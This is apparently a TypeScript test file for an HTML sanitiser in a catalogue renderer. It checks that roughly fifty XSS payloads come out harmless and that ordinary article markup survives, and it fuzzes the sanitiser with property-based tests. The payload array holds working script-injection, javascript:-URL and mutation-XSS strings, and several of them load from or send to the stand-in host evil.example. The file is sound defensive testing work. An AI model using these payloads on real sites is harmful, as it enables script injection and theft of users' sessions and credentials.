import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { expectHarmless } from './harmless.ts';
import { allowedTags, safeHtml } from '../../../src/catalogue/render/safe-html.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<p onclick="alert(1)">x</p>',
  '<p ONCLICK=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="javascript&#0000058alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<img src="//evil.example/pixel.gif">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/pixel.gif 1x">',
  '<p style="background:url(https://evil.example)">x</p>',
  '<style>@import "https://evil.example"</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="https://example.com" target="_blank" ping="https://evil.example">x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<p title="\'"onmouseover=alert(1)>x</p>',
  '<a title="`" href="`onmouseover=alert(1)`">x</a>',
];

describe('safe HTML', () => {
  it.each(attacks)('takes the sting out of %s', (attack) => {
    for (const html of [attack, `<p>before ${attack} after</p>`, attack.toUpperCase(), `<ul><li>${attack}`]) {
      const safe = safeHtml(html);
      expectHarmless(safe);
      expect(safeHtml(safe)).toBe(safe);
    }
  });

  it('keeps what an article needs as it is', () => {
    const html =
      '<h2 id="a">A <a class="anchor" href="#a" aria-label="Link">#</a></h2>' +
      '<p><strong>b</strong> <kbd>Enter</kbd> <a href="/en/x/" rel="noopener">c</a> <a href="mailto:a@example.com">d</a></p>' +
      '<div class="table-scroll" role="group" tabindex="0"><table><thead><tr><th scope="col" align="right">e</th></tr></thead></table></div>' +
      '<details open><summary>f</summary>g</details><ol start="3"><li value="4">h</li></ol>' +
      '<img src="/images/a.webp" alt="i" width="3" height="4" loading="lazy" decoding="async" />';
    expect(safeHtml(html).replace('open=""', 'open')).toBe(html);
  });

  it('keeps the words of a tag that it removes, and not the code of a script', () => {
    expect(safeHtml('<font>red</font><script>alert(1)</script><iframe>frame</iframe>')).toBe('red');
  });

  it('has no class but those of the pipeline', () => {
    expect(safeHtml('<div class="table-scroll modal">a</div><p class="modal">b</p>')).toBe(
      '<div class="table-scroll">a</div><p>b</p>',
    );
  });

  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom(
      ...[...allowedTags].map((tag) => `<${tag} `),
      '<script',
      '<svg ',
      '</',
      '<',
      '>',
      '"',
      "'",
      '&',
      '&lt;',
      '&#60;',
      '`',
      '=',
      '\0',
    ),
    fc.constantFrom('href=', 'src=', 'onerror=', 'style=', 'class=', 'javascript:', 'alert(1)', '-->', '<!--', ']]>'),
    fc.string({ unit: 'binary', maxLength: 5 }),
  );

  it('of anything is never dangerous, and safe HTML stays as it is', { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const safe = safeHtml(pieces.join(''));
        expectHarmless(safe);
        for (const [, tag = ''] of safe.matchAll(/<\/?([a-z][a-z0-9]*)/gu)) expect(allowedTags).toContain(tag);
        expect(safeHtml(safe)).toBe(safe);
      }),
      { numRuns: 2000 },
    );
  });
});
